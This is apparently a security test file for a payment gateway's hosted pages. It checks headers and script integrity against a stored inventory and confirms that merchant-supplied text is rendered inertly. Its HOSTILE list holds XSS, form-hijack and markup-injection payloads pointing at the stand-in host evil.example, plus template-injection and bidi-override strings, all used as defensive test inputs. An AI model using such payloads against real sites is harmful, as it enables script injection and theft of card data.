// Headers and scripts of every page state as a browser receives them, against the checked-in inventory.json (security B3,
// P7). Whoever changes either changes the inventory too:
//
//   INVENTORY=write node --test headers.test.mjs     and read the difference before committing it
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync, writeFileSync } from "node:fs";
import { after, before, test } from "node:test";
import { Gateway, Shop, browser } from "./gateway.mjs";
import { content, visit } from "./payer.mjs";
import { STATES, Scene } from "./states.mjs";

const FILE = new URL("./inventory.json", import.meta.url);
// Of this one answer, and not of its kind.
const INCIDENTAL = ["content-length", "date"];
const DIFFERENT_EACH_TIME = ["x-request-id"];

let gateway, shop, chromium;

before(async () => {
  [gateway, shop, chromium] = await Promise.all([Gateway.start(), Shop.start(), browser()]);
});

after(async () => {
  await chromium?.close();
  await gateway?.stop();
  shop?.stop();
});

const kept = (headers) =>
  headers
    .filter(({ name }) => !INCIDENTAL.includes(name.toLowerCase()))
    .map(({ name, value }) => [name.toLowerCase(), value])
    .map(([name, value]) => `${name}: ${DIFFERENT_EACH_TIME.includes(name) ? "*" : value}`)
    .sort();

const sha384 = (bytes) => `sha384-${createHash("sha384").update(bytes).digest("base64")}`;

// What the browser got: of the page and of each script on it, with what the page says of the script.
async function received(open, disturb) {
  const page = await visit(chromium, { gateway, shop });
  await disturb?.(page);
  const documents = [];
  const bodies = new Map();
  const reading = [];
  page.on("response", (response) => {
    const type = response.request().resourceType();
    if (type === "document" && response.frame() === page.mainFrame()) documents.push(response);
    if (type !== "script") return;
    const read = async () => {
      bodies.set(response.url(), { sha384: sha384(await response.body()), headers: kept(await response.headersArray()) });
    };
    // A page that was left takes its scripts along; the last one has to have its own.
    reading.push(read().catch(() => {}));
  });
  await open(new Scene({ gateway, shop, page }));
  await page.waitForLoadState("networkidle");
  await Promise.all(reading);
  const found = await page.evaluate(() =>
    [...document.scripts].map(({ src, integrity, textContent }) => ({ src, integrity, inline: textContent.trim() })),
  );
  const scripts = found.map(({ src, integrity, inline }) => {
    const { pathname } = src ? new URL(src) : { pathname: "inline" };
    return { path: pathname, integrity, ...(src ? bodies.get(src) : { inline }) };
  });
  const last = documents.filter((response) => response.status() !== 303 && response.url() === page.url()).at(-1);
  const headers = kept(await last.headersArray());
  await page.context().close();
  return { headers, scripts };
}

// States with the same headers and scripts stand together.
function grouped(states) {
  const groups = new Map();
  for (const [name, { headers, scripts }] of Object.entries(states)) {
    const key = JSON.stringify([headers, scripts.map(({ path }) => path)]);
    const group = groups.get(key) ?? { states: [], headers, scripts: scripts.map(({ path }) => path) };
    group.states.push(name);
    groups.set(key, group);
  }
  const scripts = Object.values(states).flatMap(({ scripts }) => scripts);
  const once = new Map(scripts.map((script) => [script.path, script]));
  return { pages: [...groups.values()], scripts: [...once.values()] };
}

test("every page state has the headers and the scripts of the inventory", async () => {
  const states = {};
  for (const [name, open] of Object.entries(STATES)) states[name] = await received(open);
  const found = grouped(states);
  if (process.env.INVENTORY === "write") writeFileSync(FILE, `${JSON.stringify(found, null, 2)}\n`);
  assert.deepEqual(found, JSON.parse(readFileSync(FILE, "utf8")));
});

test("a byte, a tag or a header more or less is found", async () => {
  const sound = await received(STATES.pay);
  const altered = (change) => async (page) => {
    await page.route("**/*", async (route) => {
      const response = await route.fetch();
      const { body, headers } = change(route.request(), { body: await response.text(), headers: response.headers() });
      await route.fulfill({ status: response.status(), body, headers });
    });
  };
  const isPage = (request) => request.resourceType() === "document";
  const changes = {
    "a byte of a script": (request, { body, headers }) => ({
      body: request.resourceType() === "script" ? body.replace(" ", "  ") : body,
      headers,
    }),
    "a tag": (request, { body, headers }) => ({
      body: isPage(request) ? body.replace("</head>", '<script src="/p/assets/more.js"></script></head>') : body,
      headers,
    }),
    "a header less": (request, { body, headers: { "x-content-type-options": gone, ...headers } }) => ({ body, headers }),
    "a header more": (request, { body, headers }) => ({ body, headers: { ...headers, "x-more": "1" } }),
    "a weaker policy": (request, { body, headers }) => {
      const policy = headers["content-security-policy"].replace("base-uri 'none'", "base-uri 'self'");
      return { body, headers: { ...headers, "content-security-policy": policy } };
    },
  };
  for (const [name, change] of Object.entries(changes)) {
    assert.notDeepEqual(await received(STATES.pay, altered(change)), sound, name);
  }
});

// Every field of the API that a page may show, hostile in turn.
const HOSTILE = [
  "<script>window.hacked=1</script>",
  '"><img src=http://evil.example/x onerror="window.hacked=1">',
  "<form action=http://evil.example/><input name=card_number>",
  "<base href=http://evil.example/>",
  "<iframe src=http://evil.example/></iframe>",
  "<style>@import url(http://evil.example/x.css)</style>",
  "javascript:window.hacked=1",
  "{{7*7}}${7*7}",
  "\u202e 00.01 MR txt.\u2066",
];

test("text of the merchant stays text, whatever it says", async () => {
  for (const text of HOSTILE) {
    const party = { full_name: text, legal_name: text, brand_name: text, registration_number: text.slice(0, 32), tax_number: text.slice(0, 32) };
    const address = { street_address: text, city: text, zip_code: text.slice(0, 32), state: text };
    const made = await gateway.purchase(
      {
        client: { email: "ada@example.com", ...party, ...address },
        reference: text,
        purchase: {
          products: [{ name: text, price: 5200, category: text }],
          notes: text,
          email_message: text,
          metadata: { text },
          request_client_details: ["full_name", "billing_address"],
        },
        skip_capture: false,
      },
      [],
    );
    const page = await visit(chromium, { gateway, shop });
    for (const path of ["", "invoice/"]) {
      await page.goto(`${gateway.sandbox.base_url}/p/${made.id}/${path}`);
      const found = await page.evaluate(() => {
        const turning = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
        const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
        const loose = [];
        while (texts.nextNode()) {
          const { data, parentElement } = texts.currentNode;
          if (turning.test(data) && !parentElement.closest("bdi")) loose.push(data);
        }
        return {
          hacked: window.hacked,
          foreign: document.querySelectorAll("base, iframe, object, embed, img, body style, body script").length,
          actions: [...document.forms].map(({ action }) => new URL(action).origin).filter((origin) => origin !== location.origin),
          // Outside a <bdi> it could turn a price around.
          loose,
          title: turning.test(document.title),
        };
      });
      assert.deepEqual(found, { hacked: undefined, foreign: 0, actions: [], loose: [], title: false }, `${text} on ${path}`);
      const body = await page.locator("body").textContent();
      assert.ok(body.includes(text.slice(0, 20)), `${text} is shown as it is: ${body}`);
    }
    content(page);
    await page.context().close();
  }
});
